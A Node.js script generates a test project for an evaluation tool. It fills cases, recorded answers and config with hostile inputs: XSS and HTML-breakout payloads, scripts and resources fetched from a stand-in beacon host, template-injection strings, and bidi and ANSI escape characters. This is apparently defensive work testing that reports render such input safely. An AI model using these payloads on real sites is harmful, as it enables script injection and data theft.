// Writes a project whose questions and answers try to run scripts, load things, break out of their page, or hide text.
// With `worse` after the folder the same project answers wrongly, as a new version.
// Usage: node hostile.mjs FOLDER [worse]
import { mkdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';

const [folder, worse] = process.argv.slice(2);
if (!folder) {
  console.error('usage: node hostile.mjs FOLDER [worse]');
  process.exit(2);
}
const run = 'globalThis.ran=1;alert(1);fetch("https://beacon.invalid/")';
const texts = [
  `<script>${run}</script>`,
  `</style><script>${run}</script>`,
  `</title></script></textarea><script src=https://beacon.invalid/x.js></script>`,
  `<img src=https://beacon.invalid/p.png onerror='${run}'>`,
  `<svg onload='${run}'><animate onbegin='${run}' attributeName=x dur=1s>`,
  `<a href='javascript:${run}'>click</a> [click](javascript:alert(1)) ![x](https://beacon.invalid/p.png)`,
  `" autofocus onfocus="${run}" x="`,
  `' style='position:fixed;inset:0;background:url(https://beacon.invalid/c)`,
  `<style>@import "https://beacon.invalid/s.css"; * {display: none}</style>`,
  `<link rel=stylesheet href=https://beacon.invalid/l.css><base href=https://beacon.invalid/>`,
  `<iframe srcdoc="<script>parent.ran=1</script>"></iframe><object data=https://beacon.invalid/o></object>`,
  `<meta http-equiv=refresh content="0;url=https://beacon.invalid/">`,
  `<form action=https://beacon.invalid/><button autofocus>Send</button></form>`,
  '<!-- --!> <![CDATA[ ]]> </div></article></main></body></html>',
  '${page.title()} @if(true) !{x} @template.report.text(text = null) {{constructor.constructor("alert(1)")()}}',
  '\u202egnissim \u2066isolated \u200bnothing \ufeff \u2028 \u001b[31mred\u001b[0m \u001b]8;;https://beacon.invalid/\u0007link \u0007\u007f',
  `wide${'W'.repeat(100_000)}`,
  `${'tall\n'.repeat(5_000)}`,
];
const quoted = (text) => `"${text.replaceAll('"', '""')}"`;
const cases = Array.from({ length: 180 }, (_, i) => {
  const text = texts[i % texts.length];
  return { id: `case-${i}`, input: `${text} number ${i}`, locale: i % 2 ? 'de' : 'en', text, right: !worse && i % 10 > 0 };
});

mkdirSync(folder, { recursive: true });
writeFileSync(join(folder, 'cases.csv'), ['id,input,reference,locale',
  ...cases.map(({ id, input, locale, text }) => [id, quoted(input), quoted(`yes ${text.slice(0, 200)}`), locale].join(','))]
  .join('\n'));
writeFileSync(join(folder, 'answers.jsonl'), cases.map(({ id, input, text, right }) => JSON.stringify({
  v: 1,
  id,
  messages: [{ role: 'user', content: input }],
  outputs: [{ endpoint: 'assistant', period: 'first', model: '<img src=x onerror=alert(1)>',
    text: right ? `yes ${text}` : `no ${text}` }],
})).join('\n'));
writeFileSync(join(folder, 'evaluator.yaml'), `
owners: {run: "<script>globalThis.ran=1</script>"}
targets:
  assistant: {recordings: answers.jsonl, endpoint: assistant}
suites:
  hostile:
    cases: cases.csv
    evaluators: {accuracy: {match: contains}}
    slices: {locale: [en, de]}
    false-alarms: 1 per 10d
    schedule: {every: 10s}
    sample: {seed: 7}
    require: [{evaluator: accuracy, at-least: 0.5, margin: 0.1}]
gates:
  release: {suite: hostile, candidate: assistant}
reports: {dir: pages}
metrics: {port: ${process.env.PORT ?? 18091}}
`);
